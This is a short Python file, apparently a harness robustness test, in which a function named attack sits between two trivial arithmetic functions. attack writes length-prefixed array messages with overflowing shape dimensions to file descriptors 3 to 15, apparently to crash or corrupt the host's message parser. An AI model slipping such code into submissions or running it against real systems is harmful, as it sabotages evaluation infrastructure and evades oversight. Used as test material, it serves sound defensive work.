"""Sends an array without entries whose shape multiplies to more than there is.

Nothing is set aside for it; the call is lost.
"""

import os
import struct


def honest_first(x):
    return 2 * x + 1


def attack(x):
    shapes = [(0, 2**63, 2**63), (2**32, 2**32), (2**64 - 1,), (0,) * 16]
    for shape in shapes:
        axes = b"".join(struct.pack("<Q", each) for each in shape)
        body = b"a" + b"d" + bytes([len(shape)]) + axes
        for descriptor in range(3, 16):
            try:
                os.write(descriptor, struct.pack("<I", len(body)) + body)
            except OSError:
                pass
    return x


def honest_last(x):
    return x * x - 1
